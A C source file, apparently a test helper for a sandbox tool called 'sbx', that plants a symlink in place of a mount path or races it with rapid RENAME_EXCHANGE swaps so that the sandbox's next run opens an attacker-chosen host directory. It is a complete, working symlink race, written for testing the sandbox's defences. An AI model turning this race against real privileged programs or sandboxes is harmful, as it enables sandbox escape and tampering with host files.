/* plantlink: the first half of a two-run attack on the host paths sbx opens for the next run.
 *
 *   plantlink PATH TARGET            move PATH aside (to PATH.old) and put a symlink PATH ->
 *                                    TARGET in its place; prints "planted" (or the errno)
 *   plantlink flip PATH TARGET SECS  for SECS seconds, swap PATH between the directory and a
 *                                    symlink to TARGET as fast as possible (RENAME_EXCHANGE),
 *                                    racing another sbx that is about to open PATH; leaves the
 *                                    directory in place and prints "flipped N"
 *
 * PATH is a host path of a mount of this very profile (an overlay's upper or work, the source
 * of a bind nested in a read-write bind), seen through a read-write bind; TARGET is a host
 * directory. Whether the attack worked shows in the next run, which the test judges. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int plant(const char *path, const char *target)
{
	char old[4096];

	snprintf(old, sizeof(old), "%s.old", path);
	if (rename(path, old) < 0 && errno != ENOENT) {
		printf("rename %s: %s\n", path, strerror(errno));
		return 1;
	}
	if (symlink(target, path) < 0) {
		printf("symlink %s: %s\n", path, strerror(errno));
		return 1;
	}
	printf("planted\n");
	return 0;
}

static int flip(const char *path, const char *target, long secs)
{
	char alt[4096];
	time_t end = time(NULL) + secs;
	long n = 0;

	snprintf(alt, sizeof(alt), "%s.link", path);
	(void)unlink(alt);
	if (symlink(target, alt) < 0) {
		printf("symlink %s: %s\n", alt, strerror(errno));
		return 1;
	}
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++, n++)
			if (renameat2(AT_FDCWD, path, AT_FDCWD, alt, RENAME_EXCHANGE) < 0) {
				printf("exchange %s: %s\n", path, strerror(errno));
				return 1;
			}
	}
	if (n % 2)
		(void)renameat2(AT_FDCWD, path, AT_FDCWD, alt, RENAME_EXCHANGE);
	printf("flipped %ld\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3)
		return plant(argv[1], argv[2]);
	if (argc == 5 && !strcmp(argv[1], "flip"))
		return flip(argv[2], argv[3], atol(argv[4]));
	fprintf(stderr, "usage: plantlink PATH TARGET | plantlink flip PATH TARGET SECS\n");
	return 2;
}
